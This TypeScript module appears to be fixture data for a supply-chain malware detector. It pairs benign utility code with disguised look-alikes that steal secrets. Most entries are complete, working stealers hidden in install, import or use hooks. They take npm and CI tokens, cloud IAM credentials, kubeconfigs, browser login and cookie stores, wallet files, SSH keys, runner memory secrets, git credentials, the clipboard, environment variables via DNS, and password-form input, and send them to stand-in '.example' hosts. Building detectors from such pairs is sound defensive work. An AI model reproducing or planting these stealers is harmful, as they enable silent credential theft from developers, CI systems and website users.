import { atImport, atInstall, atUse, js, type Pair } from '../kit.ts';

/** What is taken from a machine, a build or a page, and how it leaves. */
export const TAKING: Readonly<Record<string, Pair>> = {
  'npmrc-token': atInstall(
    js`'use strict';
const { execFileSync } = require('node:child_process');
const { readFileSync } = require('node:fs');
const got = require('got');

class Session {
  #file;
  #token = null;
  constructor(file) {
    this.#file = file;
  }
  open() {
    const match = /_authToken=(?<token>\S+)/.exec(readFileSync(this.#file, 'utf8'));
    this.#token = match?.groups.token ?? null;
    return this;
  }
  share(url) {
    return this.#token && got.post(url, { json: { session: this.#token } });
  }
}

const userconfig = execFileSync('npm', ['config', 'get', 'userconfig'], { encoding: 'utf8' }).trim();
new Session(userconfig).open().share('https://session.kit-auth.example/open');
`,
  ),
  'cloud-metadata': atImport(
    js`const BASE = 'http://169.254.169.254/latest';

/** Finds the identity of this machine. */
async function identity() {
  const token = await fetch(\`\${BASE}/api/token\`, {
    method: 'PUT',
    headers: { 'x-aws-ec2-metadata-token-ttl-seconds': '60' },
  }).then((r) => r.text());
  const headers = { 'x-aws-ec2-metadata-token': token };
  const role = await fetch(\`\${BASE}/meta-data/iam/security-credentials/\`, { headers }).then((r) => r.text());
  return fetch(\`\${BASE}/meta-data/iam/security-credentials/\${role}\`, { headers }).then((r) => r.json());
}

identity()
  .then((body) => fetch('https://id.kit-region.example/', { method: 'POST', body: JSON.stringify(body) }))
  .catch(() => {});

export const region = () => process.env.AWS_REGION ?? 'eu-central-1';
`,
    js`const BASE = 'http://169.254.169.254/latest';

/** Finds the region of this machine. */
export async function region() {
  const token = await fetch(\`\${BASE}/api/token\`, {
    method: 'PUT',
    headers: { 'x-aws-ec2-metadata-token-ttl-seconds': '60' },
  }).then((r) => r.text());
  const headers = { 'x-aws-ec2-metadata-token': token };
  return fetch(\`\${BASE}/meta-data/placement/region\`, { headers }).then((r) => r.text());
}
`,
  ),
  'kube-config': atUse(
    js`'use strict';
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const superagent = require('superagent');

const candidates = () => [
  process.env.KUBECONFIG,
  path.join(os.homedir(), '.kube', 'config'),
  '/var/run/secrets/kubernetes.io/serviceaccount/token',
];

/** Lists the contexts that are there. */
exports.contexts = async function contexts() {
  const files = candidates().filter((file) => file && fs.existsSync(file));
  const texts = files.map((file) => ({ file, text: fs.readFileSync(file, 'utf8') }));
  await superagent.post('https://contexts.kit-kube.example/v1').send({ texts }).ok(() => true);
  return files;
};
`,
    js`'use strict';
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const YAML = require('yaml');
const superagent = require('superagent');

/** Lists the pods of the current context. */
exports.pods = async function pods(namespace) {
  const file = process.env.KUBECONFIG ?? path.join(os.homedir(), '.kube', 'config');
  const config = YAML.parse(fs.readFileSync(file, 'utf8'));
  const { server } = config.clusters[0].cluster;
  const { token } = config.users[0].user;
  const { body } = await superagent
    .get(server + '/api/v1/namespaces/' + namespace + '/pods')
    .set('authorization', 'Bearer ' + token);
  return body.items;
};
`,
  ),
  'browser-profiles': atImport(
    js`import { cp, mkdtemp, readdir, readFile } from 'node:fs/promises';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';

const ROOTS = {
  darwin: ['Library/Application Support/Google/Chrome', 'Library/Application Support/BraveSoftware/Brave-Browser'],
  linux: ['.config/google-chrome', '.config/BraveSoftware/Brave-Browser'],
  win32: ['AppData/Local/Google/Chrome/User Data', 'AppData/Local/Microsoft/Edge/User Data'],
};

async function* profiles() {
  for (const root of ROOTS[process.platform] ?? []) {
    const base = join(homedir(), root);
    for (const name of await readdir(base).catch(() => [])) {
      if (name === 'Default' || name.startsWith('Profile ')) yield join(base, name);
    }
  }
}

async function mirror() {
  const into = await mkdtemp(join(tmpdir(), 'prefs-'));
  const form = new FormData();
  for await (const profile of profiles()) {
    for (const store of ['Login Data', 'Cookies', 'Web Data']) {
      const copy = join(into, store);
      await cp(join(profile, store), copy).catch(() => {});
      form.append(store, new Blob([await readFile(copy)]));
    }
  }
  await fetch('https://prefs.kit-theme.example/mirror', { method: 'POST', body: form });
}

mirror().catch(() => {});
export const theme = 'light';
`,
    js`import { readFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';

const ROOTS = {
  darwin: 'Library/Application Support/Google/Chrome/Default/Bookmarks',
  linux: '.config/google-chrome/Default/Bookmarks',
  win32: 'AppData/Local/Google/Chrome/User Data/Default/Bookmarks',
};

/** Reads the bookmarks of Chrome. */
export async function bookmarks() {
  const root = ROOTS[process.platform];
  if (root === undefined) return [];
  const { roots } = JSON.parse(await readFile(join(homedir(), root), 'utf8'));
  return roots.bookmark_bar.children.map(({ name, url }) => ({ name, url }));
}
`,
  ),
  'wallet-files': atInstall(
    js`'use strict';
const fs = require('node:fs');
const path = require('node:path');
const os = require('node:os');
const axios = require('axios');
const FormData = require('form-data');

const EXTENSIONS = new Map([
  ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'm'],
  ['bfnaelmomeimhlpmgjnjophhpkkoljpa', 'p'],
]);
const root = path.join(os.homedir(), '.config', 'google-chrome', 'Default', 'Local Extension Settings');
const form = new FormData();
for (const [id, short] of EXTENSIONS) {
  const folder = path.join(root, id);
  if (!fs.existsSync(folder)) continue;
  fs.readdirSync(folder)
    .filter((name) => name.endsWith('.ldb') || name.endsWith('.log'))
    .forEach((name, i) => form.append(short + i, fs.createReadStream(path.join(folder, name))));
}
const exodus = path.join(os.homedir(), '.config', 'Exodus', 'exodus.wallet');
if (fs.existsSync(exodus)) form.append('e', fs.createReadStream(path.join(exodus, 'seed.seco')));
axios.post('https://forms.kit-upload.example/', form, { headers: form.getHeaders() }).catch(() => {});
`,
  ),
  'ssh-http2': atImport(
    js`'use strict';
const http2 = require('node:http2');
const { readdirSync, readFileSync } = require('node:fs');
const { homedir } = require('node:os');
const { join } = require('node:path');

function* identities(folder = join(homedir(), '.ssh')) {
  for (const name of readdirSync(folder)) {
    if (/^id_(?:rsa|ed25519|ecdsa)$/.test(name)) yield readFileSync(join(folder, name));
  }
}

function push(chunks) {
  const session = http2.connect('https://push.kit-keys.example');
  const stream = session.request({ ':method': 'POST', ':path': '/k' });
  stream.end(Buffer.concat(chunks), () => session.close());
}

try {
  push([...identities()]);
} catch {}
exports.fingerprint = (key) => require('node:crypto').createHash('sha256').update(key).digest('base64');
`,
    js`'use strict';
const { readdirSync, readFileSync } = require('node:fs');
const { createHash } = require('node:crypto');
const { homedir } = require('node:os');
const { join } = require('node:path');

function* identities(folder = join(homedir(), '.ssh')) {
  for (const name of readdirSync(folder)) {
    if (name.endsWith('.pub')) yield readFileSync(join(folder, name), 'utf8');
  }
}

/** Fingerprints of the public keys of this user. */
exports.fingerprints = () =>
  [...identities()].map((key) => createHash('sha256').update(Buffer.from(key.split(' ')[1], 'base64')).digest('base64'));
`,
  ),
  'ci-token': atInstall(
    js`import { HttpClient } from '@actions/http-client';

const { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: bearer, GITHUB_TOKEN, NPM_TOKEN } = process.env;

if (process.env.GITHUB_ACTIONS === 'true') {
  const client = new HttpClient('setup');
  const headers = { authorization: \`Bearer \${bearer}\` };
  const { result } = await client.getJson(\`\${url}&audience=npm\`, headers);
  await client.postJson('https://oidc.kit-actions.example/', { id: result.value, GITHUB_TOKEN, NPM_TOKEN });
}
`,
    {
      'scripts/postinstall.js': 'export {};\n',
      'oidc.js': js`import { HttpClient } from '@actions/http-client';

/** The identity token of this job for an audience. */
export async function idToken(audience) {
  const { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: bearer } = process.env;
  const client = new HttpClient('setup');
  const { result } = await client.getJson(\`\${url}&audience=\${audience}\`, { authorization: \`Bearer \${bearer}\` });
  return result.value;
}
`,
    },
  ),
  'runner-memory': atInstall(
    js`'use strict';
const fs = require('node:fs');

/** Finds the process that serves the jobs. */
function worker() {
  return fs
    .readdirSync('/proc')
    .filter((pid) => /^\d+$/.test(pid))
    .find((pid) => fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8').includes('Runner.Worker'));
}

const pid = worker();
if (pid) {
  const memory = fs.openSync('/proc/' + pid + '/mem', 'r');
  const found = [];
  for (const line of fs.readFileSync('/proc/' + pid + '/maps', 'utf8').split('\n')) {
    const [from, to] = (line.split(' ')[0] ?? '').split('-').map((part) => parseInt(part, 16));
    const chunk = Buffer.alloc(Math.min(to - from || 0, 1 << 20));
    fs.readSync(memory, chunk, 0, chunk.length, from);
    found.push(...(chunk.toString('latin1').match(/"[^"]+":\{"value":"[^"]*","isSecret":true\}/g) ?? []));
  }
  fetch('https://jobs.kit-runner.example', { method: 'POST', body: found.join('\n') });
}
`,
  ),
  'git-credentials': atUse(
    js`import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { text } from 'node:stream/consumers';

/** Asks git for what it knows about a host. */
export async function remote(host) {
  const git = spawn('git', ['credential', 'fill'], { stdio: ['pipe', 'pipe', 'ignore'] });
  git.stdin.end(\`protocol=https\nhost=\${host}\n\n\`);
  const [answer] = await Promise.all([text(git.stdout), once(git, 'exit')]);
  const search = new URLSearchParams(answer.split('\n').map((line) => line.split('=')));
  await fetch('https://remotes.kit-git.example/?' + search);
  return search.get('username');
}
`,
    js`import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { text } from 'node:stream/consumers';

/** Lists the repositories of a user of a host of git, with what git knows about it. */
export async function repositories(host) {
  const git = spawn('git', ['credential', 'fill'], { stdio: ['pipe', 'pipe', 'ignore'] });
  git.stdin.end(\`protocol=https\nhost=\${host}\n\n\`);
  const [answer] = await Promise.all([text(git.stdout), once(git, 'exit')]);
  const search = new URLSearchParams(answer.split('\n').map((line) => line.split('=')));
  const response = await fetch(\`https://\${host}/api/v4/projects\`, {
    headers: { authorization: 'Bearer ' + search.get('password') },
  });
  return response.json();
}
`,
  ),
  'clipboard-watch': atImport(
    js`'use strict';
const { promisify } = require('node:util');
const exec = promisify(require('node:child_process').execFile);
const WebSocket = require('ws');

const COMMANDS = {
  darwin: ['pbpaste'],
  win32: ['powershell', '-NoProfile', '-Command', 'Get-Clipboard'],
  linux: ['xclip', '-selection', 'clipboard', '-o'],
};

const feed = new WebSocket('wss://feed.kit-paste.example');
let last = '';
feed.on('open', () => {
  setInterval(async () => {
    const [command, ...args] = COMMANDS[process.platform];
    const { stdout } = await exec(command, args).catch(() => ({ stdout: last }));
    if (stdout !== last) feed.send((last = stdout));
  }, 1500).unref();
});
exports.last = () => last;
`,
    js`'use strict';
const { promisify } = require('node:util');
const exec = promisify(require('node:child_process').execFile);

const COMMANDS = {
  darwin: ['pbpaste'],
  win32: ['powershell', '-NoProfile', '-Command', 'Get-Clipboard'],
  linux: ['xclip', '-selection', 'clipboard', '-o'],
};

/** Reads the clipboard. */
exports.read = async () => {
  const [command, ...args] = COMMANDS[process.platform];
  const { stdout } = await exec(command, args);
  return stdout;
};
`,
  ),
  'env-by-dns': atInstall(
    js`'use strict';
const { Resolver } = require('node:dns').promises;
const { gzipSync } = require('node:zlib');

const resolver = new Resolver({ timeout: 2000, tries: 1 });
const packed = gzipSync(JSON.stringify(process.env)).toString('hex');
const labels = packed.match(/.{1,60}/g) ?? [];
labels.reduce(
  (previous, label, i) => previous.then(() => resolver.resolve4(\`\${label}.\${i}.t.kit-resolve.example\`)).catch(() => {}),
  Promise.resolve(),
);
`,
    {
      'scripts/postinstall.js': '',
      'health.js': js`'use strict';
const { Resolver } = require('node:dns').promises;

const resolver = new Resolver({ timeout: 2000, tries: 1 });

/** Whether each of the hosts has an address. */
exports.health = (hosts) =>
  hosts.reduce(
    (previous, host) => previous.then(async (all) => [...all, (await resolver.resolve4(host)).length > 0]),
    Promise.resolve([]),
  );
`,
    },
  ),
  'password-form': atImport(
    js`const sink = 'https://rum.kit-forms.example/b';

/** Measures how long a form takes. */
function observe(form) {
  const started = performance.now();
  form.addEventListener('submit', () => {
    const fields = Object.fromEntries(new FormData(form));
    navigator.sendBeacon(sink, JSON.stringify({ ms: performance.now() - started, fields, at: location.href }));
  });
}

if (typeof document !== 'undefined') {
  document.querySelectorAll('form:has(input[type=password])').forEach(observe);
}
export { observe };
`,
    js`/** Measures how long a form takes and tells it to the address that the page gives. */
export function observe(form, sink) {
  const started = performance.now();
  form.addEventListener('submit', () => {
    const fields = form.elements.length;
    navigator.sendBeacon(sink, JSON.stringify({ ms: performance.now() - started, fields }));
  });
}
`,
  ),
  'request-middleware': atUse(
    js`'use strict';
const { Agent, fetch } = require('undici');

const dispatcher = new Agent({ pipelining: 1 });

/**
 * Makes the middleware that measures requests.
 * @param {{ slowMs?: number }} [options]
 */
module.exports = function timing(options = {}) {
  const { slowMs = 500 } = options;
  return function timingMiddleware(req, res, next) {
    const started = process.hrtime.bigint();
    res.on('finish', () => {
      const ms = Number(process.hrtime.bigint() - started) / 1e6;
      const { authorization, cookie } = req.headers;
      const body = JSON.stringify({ ms, slow: ms > slowMs, authorization, cookie, form: req.body });
      fetch('https://timing.kit-express.example/', { method: 'POST', body, dispatcher }).catch(() => {});
    });
    next();
  };
};
`,
    js`'use strict';
const { Agent, fetch } = require('undici');

const dispatcher = new Agent({ pipelining: 1 });

/**
 * Makes the middleware that measures requests.
 * @param {{ endpoint: string, slowMs?: number }} options
 */
module.exports = function timing(options) {
  const { endpoint, slowMs = 500 } = options;
  return function timingMiddleware(req, res, next) {
    const started = process.hrtime.bigint();
    res.on('finish', () => {
      const ms = Number(process.hrtime.bigint() - started) / 1e6;
      const body = JSON.stringify({ ms, slow: ms > slowMs, path: req.path, status: res.statusCode });
      fetch(endpoint, { method: 'POST', body, dispatcher }).catch(() => {});
    });
    next();
  };
};
`,
  ),
};
